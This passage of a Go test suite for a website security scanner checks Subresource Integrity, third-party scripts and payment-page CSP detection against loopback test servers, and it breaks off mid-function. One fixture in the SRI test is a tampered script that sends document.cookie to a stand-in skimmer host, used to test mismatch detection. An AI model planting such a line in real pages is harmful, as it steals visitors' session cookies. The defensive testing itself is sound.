package scan_test

// End-to-end tests of the payment-page issue: Subresource Integrity, third-party scripts,
// payment pages and their CSP, the https copy probe, and the golden JSON report of a small
// payment site with its script inventory. Every server is an httptest server on loopback; the
// made-up host names reach it through Config.Resolve, certificates come from a test CA of
// our own, and a dialer refuses anything that is not a loopback address.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/padlock-scan/padlock/internal/certs"
	"github.com/padlock-scan/padlock/report"
	"github.com/padlock-scan/padlock/scan"
)

// payClock is the fixed clock of the reports (started_at, finished_at).
var payClock = time.Date(2026, 11, 29, 3, 0, 0, 0, time.UTC)

// ---------------------------------------------------------------------------------------------
// Test PKI (after crawler/origins_test.go).

// payCA issues certificates for the made-up host names.
type payCA struct {
	*certs.CA
	cert *x509.Certificate
	pool *x509.CertPool
}

func wrapPayCA(t testing.TB, ca *certs.CA, err error) *payCA {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
	return &payCA{CA: ca, cert: ca.Cert, pool: ca.Pool}
}

// newPayCA makes a root CA valid from two days before now for a year.
func newPayCA(t testing.TB, name string, now time.Time) *payCA {
	t.Helper()
	ca, err := certs.NewCA(name, now.Add(-48*time.Hour), now.Add(365*24*time.Hour))
	return wrapPayCA(t, ca, err)
}

// intermediate issues a CA certificate signed by ca (trusted through ca's pool).
func (ca *payCA) intermediate(t testing.TB, name string, _ time.Time) *payCA {
	t.Helper()
	in, err := ca.Intermediate(name)
	return wrapPayCA(t, in, err)
}

// leaf issues a server certificate for names; aia sets an issuer URL (what lets a verifier
// call a chain "incomplete" rather than "untrusted"); chain is sent after the leaf.
func (ca *payCA) leaf(t testing.TB, names []string, notBefore, notAfter time.Time, aia bool, chain ...*x509.Certificate) tls.Certificate {
	t.Helper()
	opt := certs.LeafOptions{Chain: chain}
	if aia {
		opt.IssuerURL = "http://ca.invalid/intermediate.crt"
	}
	c, err := ca.Leaf(names, notBefore, notAfter, opt)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// payTLSServer serves h over TLS with cert, accepting only protocol versions minV to maxV.
// More certificates may follow: the server then picks the one that matches the SNI name.
func payTLSServer(t testing.TB, cert tls.Certificate, minV, maxV uint16, h http.Handler, more ...tls.Certificate) *httptest.Server {
	t.Helper()
	srv := httptest.NewUnstartedServer(h)
	srv.EnableHTTP2 = false
	srv.TLS = &tls.Config{Certificates: append([]tls.Certificate{cert}, more...), MinVersion: minV, MaxVersion: maxV}
	// The probes (legacy versions, unverified certificates) make servers log handshake errors.
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	return srv
}

// payHTTPServer serves h over plain HTTP.
func payHTTPServer(t testing.TB, h http.Handler) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv
}

func payPort(srv *httptest.Server) string {
	return strconv.Itoa(srv.Listener.Addr().(*net.TCPAddr).Port)
}

// ---------------------------------------------------------------------------------------------
// Loopback-only network.

// payNet is the crawler's dialer in these tests: it dials loopback addresses only, and can
// redirect a loopback address to another one (so http://h/ on port 80 and https://h/ on port
// 443 reach the test servers). Any other address is refused and the test fails.
type payNet struct {
	mu      sync.Mutex
	ports   map[string]string // "127.0.0.1:80" -> the test server's address
	refused []string
}

func newPayNet(t testing.TB) *payNet {
	n := &payNet{ports: map[string]string{}}
	t.Cleanup(func() {
		if r := n.list(); len(r) > 0 {
			t.Errorf("the crawl tried to leave loopback: refused %v", r)
		}
	})
	return n
}

func (n *payNet) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	host, _, err := net.SplitHostPort(addr)
	if ip := net.ParseIP(host); err != nil || ip == nil || !ip.IsLoopback() {
		n.mu.Lock()
		n.refused = append(n.refused, addr)
		n.mu.Unlock()
		return nil, fmt.Errorf("test network: refusing to dial non-loopback address %s", addr)
	}
	n.mu.Lock()
	if to, ok := n.ports[addr]; ok {
		addr = to
	}
	n.mu.Unlock()
	var d net.Dialer
	return d.DialContext(ctx, network, addr)
}

func (n *payNet) list() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return slices.Clone(n.refused)
}

// payResolve maps every host, on port, to loopback (curl's --resolve HOST:PORT:ADDR).
func payResolve(port string, hosts ...string) []string {
	out := make([]string, len(hosts))
	for i, h := range hosts {
		out[i] = h + ":" + port + ":127.0.0.1"
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// Virtual hosts.

// payRoute is one answer of a test server.
type payRoute struct {
	status int
	ctype  string
	header []string // "Name: value"
	body   string
}

// payVHosts serves routes by host name (port ignored) and path, replacing {{name}} placeholders
// in bodies and headers, and counts the requests per method, host and path.
type payVHosts struct {
	routes map[string]payRoute // "host/path"
	vars   map[string]string   // set before the crawl starts

	mu    sync.Mutex
	count map[string]int // "METHOD host/path"
}

func newPayVHosts() *payVHosts {
	return &payVHosts{routes: map[string]payRoute{}, vars: map[string]string{}, count: map[string]int{}}
}

func (v *payVHosts) add(hostPath string, r payRoute) { v.routes[hostPath] = r }

func (v *payVHosts) expand(s string) string {
	for k, val := range v.vars {
		s = strings.ReplaceAll(s, "{{"+k+"}}", val)
	}
	return s
}

func (v *payVHosts) requests(method, hostPath string) int {
	v.mu.Lock()
	defer v.mu.Unlock()
	return v.count[method+" "+hostPath]
}

func (v *payVHosts) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	host := r.Host
	if h, _, err := net.SplitHostPort(host); err == nil {
		host = h
	}
	key := strings.ToLower(host) + r.URL.Path
	v.mu.Lock()
	v.count[r.Method+" "+key]++
	v.mu.Unlock()
	rt, ok := v.routes[key]
	if !ok {
		http.NotFound(w, r)
		return
	}
	for _, h := range rt.header {
		k, val, _ := strings.Cut(h, ":")
		w.Header().Add(strings.TrimSpace(k), v.expand(strings.TrimSpace(val)))
	}
	body := v.expand(rt.body)
	if rt.ctype != "" {
		w.Header().Set("Content-Type", rt.ctype)
	}
	w.Header().Set("Content-Length", strconv.Itoa(len(body)))
	status := rt.status
	if status == 0 {
		status = http.StatusOK
	}
	w.WriteHeader(status)
	if r.Method != http.MethodHead {
		_, _ = io.WriteString(w, body)
	}
}

func payHTML(body string, header ...string) payRoute {
	return payRoute{ctype: "text/html; charset=utf-8", body: body, header: header}
}

func payJS(body string, header ...string) payRoute {
	return payRoute{ctype: "text/javascript; charset=utf-8", body: body, header: header}
}

func payCSS(body string, header ...string) payRoute {
	return payRoute{ctype: "text/css; charset=utf-8", body: body, header: header}
}

func paySRI256(s string) string {
	h := sha256.Sum256([]byte(s))
	return "sha256-" + base64.StdEncoding.EncodeToString(h[:])
}

func paySRI384(s string) string {
	h := sha512.Sum384([]byte(s))
	return "sha384-" + base64.StdEncoding.EncodeToString(h[:])
}

func payHex(s string) string {
	h := sha256.Sum256([]byte(s))
	return fmt.Sprintf("%x", h[:])
}

// payLine returns the 1-based line of the first occurrence of needle in text.
func payLine(t testing.TB, text, needle string) int {
	t.Helper()
	i := strings.Index(text, needle)
	if i < 0 {
		t.Fatalf("lineOf: %q not in the page", needle)
	}
	return strings.Count(text[:i], "\n") + 1
}

// ---------------------------------------------------------------------------------------------
// The shop: one TLS server for the site and its third parties, each a host name of its own.

// Host names of the shop world. vendor.test and paytools.test are third-party sites;
// static.shop.test belongs to the site; js.stripe.com is on padlock's built-in list of card
// frame providers (and, like every name here, resolves to loopback only).
var payShopHosts = []string{"www.shop.test", "static.shop.test", "cdn.vendor.test", "js.paytools.test", "js.stripe.com"}

type payShop struct {
	port  string
	ca    *payCA
	net   *payNet
	certs time.Time // the time certificates were issued around
}

// startPayShop serves v over TLS 1.2-1.3 with a valid certificate for every shop host.
// Placeholders: {{www}}, {{static}}, {{cdn}}, {{paytools}}, {{stripe}} (origins with port).
func startPayShop(t testing.TB, v *payVHosts) *payShop {
	t.Helper()
	now := time.Now().Truncate(time.Second)
	ca := newPayCA(t, "padlock test root CA", now)
	// One certificate per host; the server picks it by SNI.
	var certs []tls.Certificate
	for _, h := range payShopHosts {
		certs = append(certs, ca.leaf(t, []string{h}, now.Add(-time.Hour), now.Add(200*24*time.Hour), false))
	}
	srv := payTLSServer(t, certs[0], tls.VersionTLS12, tls.VersionTLS13, v, certs[1:]...)
	s := &payShop{port: payPort(srv), ca: ca, net: newPayNet(t), certs: now}
	v.vars["www"] = s.origin("www.shop.test")
	v.vars["static"] = s.origin("static.shop.test")
	v.vars["cdn"] = s.origin("cdn.vendor.test")
	v.vars["paytools"] = s.origin("js.paytools.test")
	v.vars["stripe"] = s.origin("js.stripe.com")
	v.vars["port"] = s.port
	return s
}

func (s *payShop) origin(host string) string { return "https://" + host + ":" + s.port }

// options crawls from www.shop.test/ (or the given paths).
func (s *payShop) options(paths ...string) scan.Options {
	if len(paths) == 0 {
		paths = []string{"/"}
	}
	var starts []string
	for _, p := range paths {
		starts = append(starts, s.origin("www.shop.test")+p)
	}
	return payOptions(s.ca, s.net, s.certs, starts, payResolve(s.port, payShopHosts...))
}

// payOptions crawls from starts, every request on loopback through pn, every sub-resource
// checked, with the report's fixed clock; certificates are judged at certNow.
func payOptions(ca *payCA, pn *payNet, certNow time.Time, starts, resolve []string) scan.Options {
	var opt scan.Options
	opt.Crawl.StartURLs = starts
	opt.Crawl.Resolve = resolve
	opt.Crawl.RootCAs = ca.pool
	opt.Crawl.CheckResources = "all"
	opt.Crawl.IgnoreRobots = true
	opt.Crawl.MaxPages = 50
	opt.Crawl.Concurrency = 4
	opt.Crawl.Timeout = 5 * time.Second
	opt.Crawl.DialContext = pn.dial
	opt.Now = func() time.Time { return payClock }
	opt.Rules.Now = certNow
	return opt
}

// payRun runs scan.Run with a deadline, so a hang fails the test rather than the run.
func payRun(t testing.TB, opt scan.Options) (*report.Report, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	rep, err := scan.Run(ctx, opt)
	if rep == nil {
		t.Fatalf("scan.Run returned no report: %v", err)
	}
	return rep, err
}

// payMustRun is payRun for crawls that must succeed.
func payMustRun(t testing.TB, opt scan.Options) *report.Report {
	t.Helper()
	rep, err := payRun(t, opt)
	if err != nil {
		t.Fatalf("scan.Run: %v", err)
	}
	return rep
}

// ---------------------------------------------------------------------------------------------
// Comparing findings.

// payFID identifies a finding in these tests.
type payFID struct{ Rule, Severity, Page, URL string }

func (f payFID) String() string {
	return f.Rule + "/" + f.Severity + " page=" + f.Page + " url=" + f.URL
}

// payFindings returns the findings of the named rules, sorted.
func payFindings(rep *report.Report, ruleIDs ...string) []payFID {
	var out []payFID
	for _, f := range rep.Findings {
		if slices.Contains(ruleIDs, f.Rule) {
			out = append(out, payFID{f.Rule, f.Severity.String(), f.Page, f.URL})
		}
	}
	sortPayFIDs(out)
	return out
}

func sortPayFIDs(fs []payFID) {
	slices.SortFunc(fs, func(a, b payFID) int { return strings.Compare(a.String(), b.String()) })
}

// paySame fails the test unless got and want hold the same findings.
func paySame(t testing.TB, what string, got, want []payFID) {
	t.Helper()
	want = slices.Clone(want)
	sortPayFIDs(want)
	if slices.Equal(got, want) {
		return
	}
	var b strings.Builder
	for _, w := range want {
		if !slices.Contains(got, w) {
			fmt.Fprintf(&b, "\n\tmissing    %s", w)
		}
	}
	for _, g := range got {
		if !slices.Contains(want, g) {
			fmt.Fprintf(&b, "\n\tunexpected %s", g)
		}
	}
	if b.Len() == 0 {
		fmt.Fprintf(&b, "\n\tgot %v\n\twant %v", got, want)
	}
	t.Errorf("%s:%s", what, b.String())
}

// payFindingOf returns the one finding of rule on url (failing the test when there is not exactly one).
func payFindingOf(t testing.TB, rep *report.Report, rule, page, url string) report.Finding {
	t.Helper()
	var out []report.Finding
	for _, f := range rep.Findings {
		if f.Rule == rule && f.URL == url && (page == "" || f.Page == page) {
			out = append(out, f)
		}
	}
	if len(out) != 1 {
		t.Fatalf("want exactly one %s finding for %s on %s, got %d: %+v", rule, url, page, len(out), out)
	}
	return out[0]
}

func payContains(t testing.TB, what, s string, subs ...string) {
	t.Helper()
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			t.Errorf("%s: %q\n\tdoes not contain %q", what, s, sub)
		}
	}
}

func payPage(t testing.TB, rep *report.Report, url string) report.Page {
	t.Helper()
	for _, p := range rep.Pages {
		if p.URL == url {
			return p
		}
	}
	var urls []string
	for _, p := range rep.Pages {
		urls = append(urls, p.URL)
	}
	t.Fatalf("page %s not in the report (pages: %v)", url, urls)
	return report.Page{}
}

func payScript(t testing.TB, rep *report.Report, url string) report.Script {
	t.Helper()
	for _, s := range rep.Scripts {
		if s.Kind == "external" && s.URL == url {
			return s
		}
	}
	t.Fatalf("script %s not in the inventory", url)
	return report.Script{}
}

func payBool(b *bool) string {
	if b == nil {
		return "absent"
	}
	return strconv.FormatBool(*b)
}

// ---------------------------------------------------------------------------------------------
// 1. Subresource Integrity.

func TestPaymentSRI(t *testing.T) {
	t.Parallel()
	const (
		original = "console.log('the reviewed release');\n"
		tampered = "console.log('the reviewed release'); fetch('https://skimmer.invalid/?c='+document.cookie);\n"
		weak     = "window.weak = 1;\n"
		strong   = "window.strong = 1;\n"
		nocors   = "window.nocors = 1;\n"
		noacao   = "window.noacao = 1;\n"
		cors     = "window.cors = 1;\n"
		sha1     = "window.sha1 = 1;\n"
		first    = "window.app = 1;\n"
	)
	v := newPayVHosts()
	acao := "Access-Control-Allow-Origin: *"
	v.add("cdn.vendor.test/mismatch.js", payJS(tampered, acao))
	v.add("cdn.vendor.test/weak.js", payJS(weak, acao))
	v.add("cdn.vendor.test/strong.js", payJS(strong, acao))
	v.add("cdn.vendor.test/nocors.js", payJS(nocors, acao))
	v.add("cdn.vendor.test/noacao.js", payJS(noacao)) // no Access-Control-Allow-Origin
	v.add("cdn.vendor.test/cors.js", payJS(cors, acao))
	v.add("cdn.vendor.test/sha1.js", payJS(sha1, acao))
	v.add("cdn.vendor.test/style.css", payCSS("body { color: #222 }\n", acao))
	v.add("static.shop.test/app.js", payJS(first))
	badSHA384 := paySRI384("something else entirely")
	page := `<!doctype html>
<html><head><title>SRI cases</title>
<link rel="stylesheet" href="{{cdn}}/style.css">
</head><body>
<script src="{{cdn}}/mismatch.js" integrity="` + paySRI384(original) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/weak.js" integrity="` + paySRI256(weak) + " " + badSHA384 + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/strong.js" integrity="` + paySRI256("not the file") + " " + paySRI384(strong) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/nocors.js" integrity="` + paySRI384(nocors) + `"></script>
<script src="{{cdn}}/noacao.js" integrity="` + paySRI384(noacao) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/cors.js" integrity="` + paySRI384(cors) + `" crossorigin="anonymous"></script>
<script src="{{cdn}}/sha1.js" integrity="sha1-Bdjv4ES9MDyk7rjyByB1hLhJnb4=" crossorigin="anonymous"></script>
<script src="{{static}}/app.js"></script>
</body></html>
`
	v.add("www.shop.test/sri.html", payHTML(page))
	s := startPayShop(t, v)
	rep := payMustRun(t, s.options("/sri.html"))

	pg := s.origin("www.shop.test") + "/sri.html"
	cdn := s.origin("cdn.vendor.test")
	paySame(t, "SRI findings", payFindings(rep, "sri-missing", "sri-mismatch", "sri-cors"), []payFID{
		{"sri-mismatch", "error", pg, cdn + "/mismatch.js"},
		{"sri-mismatch", "error", pg, cdn + "/weak.js"},
		{"sri-cors", "error", pg, cdn + "/nocors.js"},
		{"sri-cors", "error", pg, cdn + "/noacao.js"},
		{"sri-missing", "warning", pg, cdn + "/style.css"},
		{"sri-missing", "warning", pg, cdn + "/sha1.js"},
	})

	f := payFindingOf(t, rep, "sri-mismatch", pg, cdn+"/mismatch.js")
	payContains(t, "sri-mismatch message", f.Message, "expected "+paySRI384(original), "hashes to "+paySRI384(tampered))
	if f.Line != payLine(t, page, "/mismatch.js") || f.Element != "script" || f.Attribute != "src" {
		t.Errorf("sri-mismatch: element %q attribute %q line %d, want script src line %d", f.Element, f.Attribute, f.Line, payLine(t, page, "/mismatch.js"))
	}
	f = payFindingOf(t, rep, "sri-mismatch", pg, cdn+"/weak.js")
	payContains(t, "sri-mismatch (weaker hash matches) message", f.Message,
		"expected "+badSHA384, "hashes to "+paySRI384(weak), "only the strongest algorithm listed, sha384, counts")
	f = payFindingOf(t, rep, "sri-cors", pg, cdn+"/nocors.js")
	payContains(t, "sri-cors (no crossorigin) message", f.Message, "no crossorigin attribute")
	f = payFindingOf(t, rep, "sri-cors", pg, cdn+"/noacao.js")
	payContains(t, "sri-cors (no ACAO) message", f.Message, "no Access-Control-Allow-Origin")
	f = payFindingOf(t, rep, "sri-missing", pg, cdn+"/sha1.js")
	payContains(t, "sri-missing (sha1 only) message", f.Message, "sha1-", "names no algorithm")
	f = payFindingOf(t, rep, "sri-missing", pg, cdn+"/style.css")
	payContains(t, "sri-missing (stylesheet) message", f.Message, "has no integrity")

	// The inventory agrees: integrity_valid from the bytes padlock fetched, once per URL.
	for _, c := range []struct {
		url, valid, sha string
	}{
		{cdn + "/mismatch.js", "false", payHex(tampered)},
		{cdn + "/weak.js", "false", payHex(weak)},
		{cdn + "/strong.js", "true", payHex(strong)},
		{cdn + "/cors.js", "true", payHex(cors)},
		{cdn + "/sha1.js", "absent", payHex(sha1)},
		{s.origin("static.shop.test") + "/app.js", "absent", payHex(first)},
	} {
		sc := payScript(t, rep, c.url)
		if got := payBool(sc.IntegrityValid); got != c.valid || sc.SHA256 != c.sha {
			t.Errorf("inventory %s: integrity_valid %s sha256 %s, want %s %s", c.url, got, sc.SHA256, c.valid, c.sha)
		}
	}
	if sc := payScript(t, rep, s.origin("static.shop.test")+"/app.js"); sc.Party != "first" {
		t.Errorf("static.shop.test is the site's own host: party %q, want first", sc.Party)
	}
	for _, p := range []string{"mismatch.js", "weak.js", "strong.js", "sha1.js"} {
		if n := v.requests("GET", "cdn.vendor.test/"+p); n != 1 {
			t.Errorf("%s fetched with GET %d times, want once", p, n)
		}
	}
}

// ---------------------------------------------------------------------------------------------
// 2. third-party-script: severity by page, --allow-script, --first-party.

const payCheckoutPage = `<!doctype html>
<html><head><title>Checkout</title></head><body>
<h1>Pay for your order</h1>
<form method="post" action="/pay">
<input type="email" name="email" autocomplete="email">
<input name="cardnumber" autocomplete="cc-number" inputmode="numeric">
<input name="exp" autocomplete="cc-exp">
<input name="cvc" autocomplete="cc-csc">
<button type="submit">Pay</button>
</form>
<script src="{{cdn}}/lib.js"></script>
</body></html>
`

func TestPaymentThirdPartyScript(t *testing.T) {
	t.Parallel()
	const lib = "window.lib = 1;\n"
	plainPage := `<!doctype html>
<html><head><title>About</title></head><body>
<p>About us</p>
<script src="{{cdn}}/lib.js"></script>
</body></html>
`
	index := `<!doctype html><title>Shop</title><a href="/plain.html">about</a> <a href="/checkout.html">checkout</a>`
	cases := []struct {
		name        string
		allow       []string
		firstParty  []string
		flagged     bool   // third-party-script expected
		party       string // in the inventory
		allowedBy   string
		sriExpected bool
	}{
		{name: "default", flagged: true, party: "third", sriExpected: true},
		{name: "allow origin", allow: []string{"https://cdn.vendor.test:{{port}}"}, party: "third", allowedBy: "https://cdn.vendor.test:{{port}}", sriExpected: true},
		{name: "allow pattern", allow: []string{"*.vendor.test"}, party: "third", allowedBy: "*.vendor.test", sriExpected: true},
		// An origin pattern matches the port too: https://cdn.vendor.test is port 443.
		{name: "allow other port", allow: []string{"https://cdn.vendor.test"}, flagged: true, party: "third", sriExpected: true},
		{name: "first party", firstParty: []string{"vendor.test"}, party: "first"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			v := newPayVHosts()
			v.add("www.shop.test/", payHTML(index))
			v.add("www.shop.test/plain.html", payHTML(plainPage))
			v.add("www.shop.test/checkout.html", payHTML(payCheckoutPage))
			v.add("cdn.vendor.test/lib.js", payJS(lib))
			s := startPayShop(t, v)
			opt := s.options()
			for _, a := range tc.allow {
				opt.Rules.AllowScript = append(opt.Rules.AllowScript, v.expand(a))
			}
			opt.Crawl.FirstParty = tc.firstParty
			opt.Rules.FirstParty = tc.firstParty
			rep := payMustRun(t, opt)

			plain := s.origin("www.shop.test") + "/plain.html"
			checkout := s.origin("www.shop.test") + "/checkout.html"
			script := s.origin("cdn.vendor.test") + "/lib.js"
			var want []payFID
			if tc.flagged {
				want = []payFID{
					{"third-party-script", "warning", plain, script},
					{"third-party-script", "error", checkout, script},
				}
			}
			paySame(t, "third-party-script", payFindings(rep, "third-party-script"), want)
			if tc.flagged {
				f := payFindingOf(t, rep, "third-party-script", checkout, script)
				payContains(t, "payment-page message", f.Message,
					"not approved by --allow-script",
					fmt.Sprintf(`this is a payment page: input autocomplete="cc-number" (line %d)`, payLine(t, payCheckoutPage, "cc-number")))
				if f.Line != payLine(t, payCheckoutPage, "/lib.js") {
					t.Errorf("third-party-script line %d, want %d", f.Line, payLine(t, payCheckoutPage, "/lib.js"))
				}
				f = payFindingOf(t, rep, "third-party-script", plain, script)
				if strings.Contains(f.Message, "payment page") {
					t.Errorf("not a payment page, but the message says so: %s", f.Message)
				}
			}
			// sri-missing fires on third-party scripts, approved or not; never on first-party ones.
			want = nil
			if tc.sriExpected {
				want = []payFID{{"sri-missing", "warning", plain, script}, {"sri-missing", "warning", checkout, script}}
			}
			paySame(t, "sri-missing", payFindings(rep, "sri-missing"), want)

			sc := payScript(t, rep, script)
			wantAllowed := v.expand(tc.allowedBy)
			if sc.Party != tc.party || sc.AllowedBy != wantAllowed {
				t.Errorf("inventory: party %q allowed_by %q, want %q %q", sc.Party, sc.AllowedBy, tc.party, wantAllowed)
			}
			if sc.PageCount != 2 || !slices.Equal(sc.Pages, []string{checkout, plain}) || !slices.Equal(sc.PaymentPages, []string{checkout}) {
				t.Errorf("inventory: page_count %d pages %v payment_pages %v, want 2 [%s %s] [%s]", sc.PageCount, sc.Pages, sc.PaymentPages, checkout, plain, checkout)
			}
			if sc.SHA256 != payHex(lib) || sc.Size != int64(len(lib)) || sc.Status != 200 {
				t.Errorf("inventory: sha256 %s size %d status %d, want %s %d 200", sc.SHA256, sc.Size, sc.Status, payHex(lib), len(lib))
			}
			if n := v.requests("GET", "cdn.vendor.test/lib.js"); n != 1 {
				t.Errorf("lib.js is on two pages but must be fetched once: %d GET requests", n)
			}
		})
	}
}

// ---------------------------------------------------------------------------------------------
// 3. Payment pages and payment-csp-missing.

func TestPaymentPages(t *testing.T) {
	t.Parallel()
	framePage := `<!doctype html>
<html><head><title>Pay by card</title></head><body>
<p>Enter your card details below.</p>
<iframe src="{{stripe}}/v3/elements-inner-card.html" title="Secure card payment input frame"></iframe>
</body></html>
`
	searchPage := `<!doctype html>
<html><head><title>Search</title></head><body>
<form action="/search" role="search">
<input type="search" name="q" placeholder="Search the shop">
<input name="number" placeholder="order number">
<input name="code" placeholder="coupon code">
<input type="hidden" name="cvv" value="">
<button>Go</button>
</form>
</body></html>
`
	index := `<!doctype html><title>Shop</title>
<a href="/checkout.html">checkout</a>
<a href="/checkout-csp.html">checkout with CSP</a>
<a href="/checkout-ro.html">checkout with report-only CSP</a>
<a href="/checkout-default.html">checkout with default-src</a>
<a href="/checkout-any.html">checkout with a CSP that allows any host</a>
<a href="/checkout-meta.html">checkout with a meta CSP</a>
<a href="/card-frame.html">card frame</a>
<a href="/search.html">search</a>`
	v := newPayVHosts()
	v.add("www.shop.test/", payHTML(index))
	v.add("www.shop.test/checkout.html", payHTML(payCheckoutPage))
	v.add("www.shop.test/checkout-csp.html", payHTML(payCheckoutPage, "Content-Security-Policy: script-src 'self'"))
	v.add("www.shop.test/checkout-ro.html", payHTML(payCheckoutPage, "Content-Security-Policy-Report-Only: script-src 'self'"))
	v.add("www.shop.test/checkout-default.html", payHTML(payCheckoutPage, "Content-Security-Policy: default-src 'self'"))
	v.add("www.shop.test/checkout-any.html", payHTML(payCheckoutPage, "Content-Security-Policy: script-src * 'unsafe-inline'"))
	v.add("www.shop.test/checkout-meta.html", payHTML(strings.Replace(payCheckoutPage, "<title>",
		`<meta http-equiv="Content-Security-Policy" content="script-src 'self'"><title>`, 1)))
	v.add("www.shop.test/card-frame.html", payHTML(framePage))
	v.add("www.shop.test/search.html", payHTML(searchPage))
	v.add("cdn.vendor.test/lib.js", payJS("window.lib = 1;\n"))
	v.add("js.stripe.com/v3/elements-inner-card.html", payHTML("<!doctype html><title>card</title><input autocomplete=cc-number>"))
	s := startPayShop(t, v)
	rep := payMustRun(t, s.options())

	www := s.origin("www.shop.test")
	cardSignals := []string{
		fmt.Sprintf(`input autocomplete="cc-number" (line %d)`, payLine(t, payCheckoutPage, "cc-number")),
		fmt.Sprintf(`input autocomplete="cc-exp" (line %d)`, payLine(t, payCheckoutPage, "cc-exp")),
		fmt.Sprintf(`input autocomplete="cc-csc" (line %d)`, payLine(t, payCheckoutPage, "cc-csc")),
	}
	for _, c := range []struct {
		path    string
		payment bool
		signals []string
	}{
		{"/", false, nil},
		{"/checkout.html", true, cardSignals},
		{"/checkout-csp.html", true, cardSignals},
		{"/checkout-ro.html", true, cardSignals},
		{"/checkout-default.html", true, cardSignals},
		{"/checkout-any.html", true, cardSignals},
		{"/checkout-meta.html", true, cardSignals},
		{"/card-frame.html", true, []string{fmt.Sprintf("card frame from js.stripe.com (line %d)", payLine(t, framePage, "<iframe"))}},
		{"/search.html", false, nil},
	} {
		p := payPage(t, rep, www+c.path)
		if p.Payment != c.payment || !slices.Equal(p.PaymentSignals, c.signals) {
			t.Errorf("page %s: payment %v signals %q, want %v %q", c.path, p.Payment, p.PaymentSignals, c.payment, c.signals)
		}
	}
	if len(rep.Pages) != 9 {
		t.Errorf("want the 9 shop pages (the provider's frame is off scope, never a page), got %d", len(rep.Pages))
	}
	// The provider's frame was requested (HEAD), on loopback, through --resolve.
	if n := v.requests("HEAD", "js.stripe.com/v3/elements-inner-card.html"); n != 1 {
		t.Errorf("the card frame was requested %d times with HEAD, want once", n)
	}

	paySame(t, "payment-csp-missing", payFindings(rep, "payment-csp-missing"), []payFID{
		{"payment-csp-missing", "warning", www + "/checkout.html", www + "/checkout.html"},
		{"payment-csp-missing", "warning", www + "/checkout-ro.html", www + "/checkout-ro.html"},
		{"payment-csp-missing", "warning", www + "/checkout-any.html", www + "/checkout-any.html"},
		{"payment-csp-missing", "warning", www + "/card-frame.html", www + "/card-frame.html"},
	})
	f := payFindingOf(t, rep, "payment-csp-missing", www+"/checkout.html", www+"/checkout.html")
	payContains(t, "payment-csp-missing message", f.Message, "payment page has no Content-Security-Policy", cardSignals[0])
	f = payFindingOf(t, rep, "payment-csp-missing", www+"/checkout-ro.html", www+"/checkout-ro.html")
	payContains(t, "payment-csp-missing (report-only) message", f.Message, "report-only")
	f = payFindingOf(t, rep, "payment-csp-missing", www+"/checkout-any.html", www+"/checkout-any.html")
	payContains(t, "payment-csp-missing (script-src *) message", f.Message, "does not restrict scripts")
	f = payFindingOf(t, rep, "payment-csp-missing", www+"/card-frame.html", www+"/card-frame.html")
	payContains(t, "payment-csp-missing (card frame) message", f.Message, "card frame from js.stripe.com")

	// The JSON report marks payment pages only.
	var buf bytes.Buffer
	w, _ := report.New("json")
	if err := w.Write(&buf, rep); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Pages []map[string]json.RawMessage `json:"pages"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, p := range doc.Pages {
		var u string
		_ = json.Unmarshal(p["url"], &u)
		pay, has := p["payment"]
		switch {
		case strings.HasSuffix(u, "/search.html") || strings.HasSuffix(u, "/"):
			if has {
				t.Errorf("JSON page %s: \"payment\": %s, want the field absent", u, pay)
			}
		case string(pay) != "true" || p["payment_signals"] == nil:
			t.Errorf("JSON page %s: \"payment\": %s, signals %s; want true and signals", u, pay, p["payment_signals"])
		}
	}
}

// ---------------------------------------------------------------------------------------------
// 5. https_available on mixed-content findings.

// TestPaymentHTTPSAvailable serves http://img.shop.test/ (port 80) and https://img.shop.test/
// (port 443): the test network sends 127.0.0.1:80 and :443 to the two test servers, so the
// crawler's https copy of an http: URL (the browser's upgrade: port 80 becomes 443) is real.
func TestPaymentHTTPSAvailable(t *testing.T) {
	t.Parallel()
	png := "\x89PNG\r\n\x1a\n"
	page := `<!doctype html>
<html><head><title>images</title></head><body>
<img src="http://img.shop.test/yes.png" alt="">
<img src="http://img.shop.test/no.png" alt="">
<img src="http://img.shop.test/soft404.png" alt="">
</body></html>
`
	build := func(t *testing.T) (*payShop, *payVHosts) {
		v := newPayVHosts()
		v.add("www.shop.test/mixed.html", payHTML(page))
		// The https side has yes.png; soft404.png answers 200 with an HTML error page, which is
		// not the image; no.png is not found.
		v.add("img.shop.test/yes.png", payRoute{ctype: "image/png", body: png})
		v.add("img.shop.test/soft404.png", payHTML("<!doctype html><title>Not found</title>"))
		plain := newPayVHosts()
		plain.add("img.shop.test/yes.png", payRoute{ctype: "image/png", body: png})
		plain.add("img.shop.test/no.png", payRoute{ctype: "image/png", body: png})
		plain.add("img.shop.test/soft404.png", payRoute{ctype: "image/png", body: png})
		httpSrv := payHTTPServer(t, plain)
		s := startPayShop(t, v)
		// img.shop.test needs a certificate too: a second TLS server for port 443.
		imgCert := s.ca.leaf(t, []string{"img.shop.test"}, s.certs.Add(-time.Hour), s.certs.Add(200*24*time.Hour), false)
		imgSrv := payTLSServer(t, imgCert, tls.VersionTLS12, tls.VersionTLS13, v)
